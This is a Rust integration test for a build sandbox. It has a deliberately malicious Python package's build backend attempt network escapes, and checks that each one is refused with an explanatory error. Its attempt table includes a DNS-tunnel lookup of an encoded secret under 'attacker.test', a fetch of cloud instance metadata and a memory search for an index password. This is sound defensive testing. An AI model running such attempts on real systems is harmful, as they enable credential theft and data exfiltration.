//! Attacks from inside a step that has network: the build backend of a source package, which runs where uv installs,
//! tries what no step may reach. Each attempt is refused, and the error of the build names it with the remedy; with
//! `--network host` the service of this machine is reached, and the build says so.
//!
//! What can be tried without a real client is tried in every isolation by the engine's own tests
//! (`crates/engine/src/steps/tests/walls.rs`).

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread;

use crate::command::{Finished, finish, say};
use crate::fixture::{packwright, packwright_on};
use crate::place;
use crate::tenants::Index;

/// An attempt of the table.
struct Attempt {
    /// Its name.
    name: &'static str,
    /// What stops it.
    stopped_by: &'static str,
    /// What it does, in the words of `attack.py`; `@PORT@` is that of a service of this machine, `@CANARY@` the name of
    /// an abstract socket of it.
    code: &'static str,
    /// What the program sees.
    sees: &'static str,
    /// What the error of the build says; nothing where no packet leaves the program.
    says: &'static str,
    /// What the error says that the user can do.
    remedy: &'static str,
}

const HOST_NETWORK: &str = "`--network host`";

#[rustfmt::skip]
const ATTEMPTS: &[Attempt] = &[
    Attempt { name: "loopback", stopped_by: "network namespace",
        code: "said_by(connected('127.0.0.1', @PORT@))", sees: "ConnectionRefusedError",
        says: "`127.0.0.1:@PORT@` is refused: nothing in the step listens there", remedy: "`--allow-host 127.0.0.1:@PORT@`" },
    Attempt { name: "abstract socket", stopped_by: "network namespace, Landlock",
        code: "abstract('@CANARY@')", sees: "Error: [Errno", says: "", remedy: "" },
    Attempt { name: "metadata", stopped_by: "rule for link-local addresses",
        code: "page('http://169.254.169.254/latest/meta-data/')", sees: "HTTP Error 403",
        says: "`http://169.254.169.254` is refused: it is a link-local address", remedy: "`--allow-host 169.254.169.254`" },
    Attempt { name: "metadata by IPv6", stopped_by: "no IPv6 in the namespace",
        code: "said_by(connected('fd00:ec2::254', 80))", sees: "OSError: [Errno", says: "", remedy: "" },
    Attempt { name: "neighbour", stopped_by: "rule for private addresses",
        code: "page('http://10.0.0.1/')", sees: "HTTP Error 403",
        says: "`http://10.0.0.1` is refused: it is a private address", remedy: "`--allow-host 10.0.0.1`" },
    Attempt { name: "another build", stopped_by: "addresses of names belong to a step",
        code: "said_by(connected('198.18.77.77', 443), b'GET / HTTP/1.1\\r\\n\\r\\n')", sees: "",
        says: "`198.18.77.77:443` is refused: the address stands for no name of this step", remedy: "" },
    Attempt { name: "tunnel by names", stopped_by: "stub resolver, which asks nobody",
        code: "socket.getaddrinfo('c2VjcmV0.attacker.test', 53, type=socket.SOCK_STREAM)", sees: "198.18.", says: "", remedy: "" },
    Attempt { name: "resolver by UDP", stopped_by: "kernel of the namespace: nothing listens",
        code: "datagram('8.8.8.8', 53)", sees: "ConnectionRefusedError",
        says: "`8.8.8.8:53` is refused: it is asked for names by UDP", remedy: HOST_NETWORK },
    Attempt { name: "resolver by TCP", stopped_by: "kernel of the namespace: nothing listens",
        code: "said_by(connected('8.8.4.4', 53))", sees: "ConnectionRefusedError",
        says: "`8.8.4.4:53` is refused: it is asked for names by TCP", remedy: "/etc/resolv.conf" },
    Attempt { name: "QUIC", stopped_by: "kernel of the namespace: nothing listens",
        code: "datagram('host.test', 443)", sees: "ConnectionRefusedError",
        says: "`host.test:443` is refused: it is asked by UDP", remedy: "use https over TCP" },
    Attempt { name: "ssh", stopped_by: "listener that refuses the protocol",
        code: "said_by(connected('code.test', 22))", sees: "nothing came",
        says: "`code.test:22` is refused: it is asked by ssh", remedy: "use an https address" },
    Attempt { name: "git", stopped_by: "listener that refuses the protocol",
        code: "said_by(connected('code.test', 9418))", sees: "steps reach `code.test` by https only",
        says: "`code.test:9418` is refused: it is asked by git://", remedy: HOST_NETWORK },
    Attempt { name: "another port", stopped_by: "kernel of the namespace: nothing listens",
        code: "page('https://host.test:8443/')", sees: "Connection refused",
        says: "`host.test:8443` is refused: steps reach the ports 80 and 443", remedy: "`--allow-host host.test:8443`" },
    Attempt { name: "own authority", stopped_by: "the client, which trusts its own authority alone",
        code: "pinned('https://pinned.test/')", sees: "CERTIFICATE_VERIFY_FAILED",
        says: "`pinned.test:443` is refused: the program does not accept the gateway's certificate", remedy: "SSL_CERT_FILE" },
    Attempt { name: "denied", stopped_by: "`--deny-host`",
        code: "page('https://sub.denied.test/')", sees: "URLError",
        says: "`sub.denied.test` is refused: `--deny-host` names it", remedy: "take it out of `--deny-host`" },
    Attempt { name: "token in memory", stopped_by: "placeholder: the value stays outside",
        code: "search(b'@PATTERN@')", sees: "found in nothing", says: "", remedy: "" },
];

/// What the second version of the package tries, on the host's network: what the host has and a step must not see.
const ON_THE_HOSTS_NETWORK: [&str; 2] = ["loopback", "token in memory"];

/// User and password of the index, which nothing in a step may hold, and the pattern of the password, plain and as in a
/// header field. It does not match itself.
const CREDENTIALS: &str = "me:hush-hush-password";
const PATTERN: &str = "[h]ush-hush-password|[b]WU6aHVzaC1odXNoLXBhc3N3b3Jk";

/// A certificate of nobody's, for a client that trusts nothing else.
const AUTHORITY: &str = include_str!("attacks/authority.pem");

const ATTACK: &str = include_str!("attacks/attack.py");

/// What the service of this machine says to whom reaches it.
const REACHED: &str = "a service of this machine";

/// Tries everything as the user of the tests.
pub fn from_a_step() {
    try_all(&|args| packwright(args));
}

/// The same, and where that is root once more as an ordinary user: the trial of the gate.
pub fn all() {
    from_a_step();
    if !place::is_root() {
        return;
    }
    // Outside of the build directory, which may be root's alone.
    let home = tempfile::Builder::new().prefix("packwright-tests-").tempdir().unwrap();
    let open = |path: &Path| fs::set_permissions(path, fs::Permissions::from_mode(0o777)).unwrap();
    open(home.path());
    let (program, store) = (home.path().join("packwright"), home.path().join("store"));
    fs::copy(place::program(), &program).unwrap();
    say("attacks: once more as an ordinary user");
    try_all(&|args| {
        let as_root = packwright_on(&store, args);
        let mut command = Command::new("setpriv");
        command.args(["--reuid=65534", "--regid=65534", "--clear-groups"]).arg(&program);
        command.args(as_root.get_args()).env("HOME", home.path());
        for (name, value) in as_root.get_envs() {
            match value {
                Some(value) => command.env(name, value),
                None => command.env_remove(name),
            };
        }
        command.env("TMPDIR", home.path());
        command
    });
    place::remove(home.path());
}

fn try_all(packwright: &dyn Fn(Vec<String>) -> Command) {
    let port = serve();
    let canary = format!("packwright-attack-canary-{}", std::process::id());
    let _canary = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&canary).unwrap()).ok();
    let fill = |text: &str| {
        text.replace("@PORT@", &port.to_string()).replace("@CANARY@", &canary).replace("@PATTERN@", PATTERN)
    };
    let backend = |attempts: &mut dyn Iterator<Item = &Attempt>| {
        let lines = attempts.map(|it| format!("attempt({:?}, lambda: {})\n", it.name, fill(it.code)));
        ATTACK.replace("@AUTHORITY@", AUTHORITY).replace("@ATTEMPTS@", &lines.collect::<String>())
    };
    let all = backend(&mut ATTEMPTS.iter());
    let few = backend(&mut ATTEMPTS.iter().filter(|it| ON_THE_HOSTS_NETWORK.contains(&it.name)));
    let index = Index::serve([&all, &few], "");
    let sources = index.sources().replace("://", &format!("://{CREDENTIALS}@"));
    let build = |version: &str, flags: &[&str]| -> Finished {
        let dir = application(version);
        let mut args = vec!["build".to_owned(), "--subject=attacks".to_owned(), dir.display().to_string()];
        args.extend(flags.iter().map(|flag| (*flag).to_owned()));
        let told = finish(packwright(args).env("UV_EXTRA_INDEX_URL", &sources));
        place::remove(&dir);
        told
    };
    let story = build("1.0", &["--deny-host", "denied.test"]).failed(1, &["all attempts are made"]).story();
    let mut problems: Vec<String> = Vec::new();
    for attempt in ATTEMPTS {
        let begin = format!("attempt {}: ", attempt.name);
        let Some(saw) = story.split(&begin).nth(1).and_then(|rest| rest.lines().next()) else {
            problems.push(format!("{} is not made", attempt.name));
            continue;
        };
        for wanted in [attempt.says, attempt.remedy].map(fill) {
            if !story.contains(&wanted) {
                problems.push(format!("{}: `{wanted}` is not said", attempt.name));
            }
        }
        if !saw.contains(attempt.sees) || saw.contains(REACHED) {
            problems.push(format!("{} ({}): the program saw `{saw}`", attempt.name, attempt.stopped_by));
        }
    }
    assert!(problems.is_empty(), "{}\n\n{story}", problems.join("\n"));
    assert!(!story.contains(REACHED), "{story}");
    let open = build("2.0", &["--network", "host"]).failed(1, &["all attempts are made"]).story();
    for wanted in [REACHED, "steps that fetch have the host's network", "found in ['/proc/"] {
        assert!(open.contains(wanted), "`{wanted}` is not said: {open}");
    }
}

/// An application that needs this version of the attacker's package.
fn application(version: &str) -> PathBuf {
    let dir = tempfile::Builder::new().prefix("packwright-attack-").tempdir().unwrap().keep();
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
    for (name, text) in [
        ("requirements.txt", format!("evilpkg=={version}\n")),
        ("shop.py", "print('shop')\n".to_owned()),
        ("Procfile", "worker: python shop.py\n".to_owned()),
    ] {
        fs::write(dir.join(name), text).unwrap();
    }
    dir
}

/// A service of this machine, on its loopback, until the tests end; its port.
fn serve() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for mut stream in listener.incoming().filter_map(Result::ok) {
            let _ = writeln!(stream, "{REACHED}");
            // So that the end of the connection does not overtake the text.
            let _ = BufReader::new(&stream).read_line(&mut String::new());
        }
    });
    port
}
